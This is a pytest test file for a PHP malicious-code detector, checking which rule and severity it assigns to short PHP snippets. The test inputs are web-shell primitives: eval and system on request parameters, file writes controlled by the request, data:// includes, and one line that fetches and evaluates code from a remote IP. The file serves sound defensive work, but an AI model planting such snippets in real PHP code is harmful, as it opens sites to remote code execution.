"""What a sighting is worth."""

import pytest

from detect.content.php_seen import seen
from hemostat.detect.content.php.verdict import verdicts
from hemostat.model.level import Level


@pytest.mark.parametrize(
    ("code", "rule", "level"),
    [
        ("eval($_GET[1]);", "runs-request", Level.CRITICAL),
        ("system('ping ' . $_GET[1]);", "runs-request", Level.LOW),
        ("system('sh -c ' . $_GET[1]);", "runs-request", Level.CRITICAL),
        ('system("cd $d; $_GET[1]");', "runs-request", Level.CRITICAL),
        ("$f = $_GET[1]; $f($_GET[2]);", "calls-what-is-requested", Level.CRITICAL),
        ("$f = $_GET[1]; $f();", "calls-what-is-requested", Level.MEDIUM),
        ("include $_GET[1];", "loads-what-is-requested", Level.HIGH),
        ("include 'pages/' . $_GET[1];", "loads-what-is-requested", Level.LOW),
        ("eval(file_get_contents('http://203.0.113.1/a'));", "runs-what-it-fetches", Level.HIGH),
        ("file_put_contents($_GET[1], $_GET[2]);", "writes-what-is-requested", Level.HIGH),
        ("file_put_contents($_GET[1] . '.php', $_GET[2]);", "writes-what-is-requested", Level.HIGH),
        ("file_put_contents($_GET[1] . '.svg', $_GET[2]);", "writes-what-is-requested", Level.LOW),
        (
            "$f = $_GET[1]; if (!$f) $f = 'a.txt'; file_put_contents($f, $_GET[2]);",
            "writes-what-is-requested",
            Level.HIGH,
        ),
        ("copy($_GET[1], $_GET[2]);", "writes-what-is-requested", Level.HIGH),
        (
            "$f = $_GET[1]; if (is_readable($f)) copy($f, $_GET[2]);",
            "writes-what-is-requested",
            Level.LOW,
        ),
        (
            "$a = []; $a[$_GET[1]] = 1; foreach ($a as $f => $n) $f($_GET[2]);",
            "calls-what-is-requested",
            Level.CRITICAL,
        ),
        ("eval(base64_decode($x));", "runs-what-it-unpacks", Level.MEDIUM),
        ("eval(substr(strtr($template, $parts) . $x, 5));", "runs-what-it-unpacks", Level.LOW),
        (
            "function f($c) { include 'data://text/plain,' . urlencode($c); } f($x->code());",
            "runs-what-it-fetches",
            Level.LOW,
        ),
        ("include 'data://text/plain,' . base64_decode($c);", "runs-what-it-fetches", Level.HIGH),
        ("include 'data://text/plain,' . $_GET['c'];", "runs-request", Level.CRITICAL),
    ],
)
def test_the_worth_follows_from_the_way(code: str, rule: str, level: Level) -> None:
    first = verdicts(seen(code))[0]
    assert (first.rule.name, first.level) == (f"linux.content.php-{rule}", level)


def test_code_of_known_beginning_is_not_hidden() -> None:
    assert verdicts(seen("eval('class ' . $name . ' extends ' . base64_decode($x) . ' {}');")) == []


def test_who_names_an_item_does_not_decide_it() -> None:
    table = "$all = ['a' => 'trim', 'b' => $x]; foreach ($_GET['n'] as $n) $some[$n] = $all[$n];"
    assert verdicts(seen(table + "foreach ($some as $f) $f($_GET['d']);")) == []
